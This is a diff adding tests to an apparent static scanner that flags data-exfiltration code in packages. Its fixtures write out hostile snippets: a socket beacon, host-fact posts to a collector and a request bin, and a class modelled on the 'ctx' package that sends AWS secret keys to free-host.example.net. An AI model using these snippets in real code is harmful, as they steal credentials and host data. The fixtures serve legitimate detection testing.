@@ -249,3 +249,77 @@ def test_building_a_request_object_sends_nothing() -> None:
         "opener.open(urllib.request.Request('https://collector.example/up', data=open(p, 'rb').read()))\n"
     )
     assert "PV-EXF-COMBO" in ids(run(ALL, sent))
+
+
+def test_a_listening_server_socket_is_no_way_out() -> None:
+    """A worker that prints its environment and waits for connections on a port sends nothing
+    out; the same file connecting to an address does."""
+    server = (
+        "import os, socket\n"
+        "def serve(port):\n"
+        "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+        "    s.bind(('0.0.0.0', port))\n    s.listen()\n"
+        "    while True:\n        conn, addr = s.accept()\n        handle(conn)\n"
+        "print(f'starting with {dict(os.environ)}')\n"
+    )
+    assert "PV-EXF-COMBO" not in ids(run(ALL, py(server)))
+    beacon = server.replace("    s.listen()\n", "    s.listen()\n    s.connect(('c.example', 80))\n")
+    assert "PV-EXF-COMBO" in ids(run(ALL, py(beacon)))
+
+
+def test_host_facts_sent_from_an_uncalled_function_are_weaker_than_a_beacon() -> None:
+    """A bug-report helper that collects the platform and user and checks a version online runs
+    only when asked; the same lines at module level fire on every import."""
+    body = (
+        "info = {'os': platform.platform(), 'user': getpass.getuser(), 'host': socket.gethostname()}\n"
+        "requests.post('https://collector.example/b', json=info)\n"
+    )
+    head = "import platform, getpass, socket, requests\n"
+    helper = py(head + "def report():\n" + "".join("    " + line + "\n" for line in body.splitlines()))
+    combo = [f for f in run(ALL, helper) if f.rule == "PV-EXF-COMBO"]
+    assert [f.severity for f in combo] == [Severity.MEDIUM]
+    beacon = py(head + body)
+    combo = [f for f in run(ALL, beacon) if f.rule == "PV-EXF-COMBO"]
+    assert [(f.severity, f.stage) for f in combo] == [(Severity.HIGH, Stage.IMPORT)]
+    collector = py(
+        head + "def report():\n    info = {'host': socket.gethostname(), 'user': getpass.getuser()}\n"
+        "    requests.get('https://x1.m.pipedream.net', params=info)\n"
+    )
+    combo = [f for f in run(ALL, collector) if f.rule == "PV-EXF-COMBO"]
+    assert [f.severity for f in combo] == [Severity.HIGH]  # a request bin is nobody's telemetry
+
+
+def test_cloud_keys_carried_to_a_foreign_host_through_attributes() -> None:
+    """ctx 0.2.2's shape: keys read into attributes in one method, put into a request URL in
+    another. The same variables sent to their own provider, or to a configured endpoint, are
+    what SDKs do."""
+    stealer = py(
+        "import requests\nfrom os import environ\n"
+        "class Ctx(dict):\n"
+        "    def __init__(self):\n"
+        "        self.access = environ.get('AWS_ACCESS_KEY_ID') or 'empty'\n"
+        "        key = environ['AWS_SECRET_ACCESS_KEY']\n"
+        "        self.secret = key\n"
+        "        self.send()\n"
+        "    def send(self):\n"
+        "        requests.get('https://free-host.example.net/h/' + self.access + '/' + self.secret)\n"
+    )
+    found = [f for f in run(R, stealer) if f.rule == "PV-EXF-CREDENTIAL"]
+    assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 10)]
+    assert "AWS_ACCESS_KEY_ID" in found[0].message
+    assert "free-host.example.net" in found[0].message
+    own_service = py(
+        "import os, requests\n"
+        "TOKEN = os.getenv('GITHUB_TOKEN')\n"
+        "def me():\n"
+        "    auth = {'Authorization': f'token {TOKEN}'}\n"
+        "    return requests.get('https://api.github.com/user', headers=auth)\n"
+    )
+    assert "PV-EXF-CREDENTIAL" not in ids(run(R, own_service))
+    configured = py(
+        "import os, requests\n"
+        "def upload(endpoint):\n"
+        "    key = os.environ['AWS_SECRET_ACCESS_KEY']\n"
+        "    return requests.put(endpoint, headers={'x-key': key})\n"
+    )
+    assert "PV-EXF-CREDENTIAL" not in ids(run(R, configured))
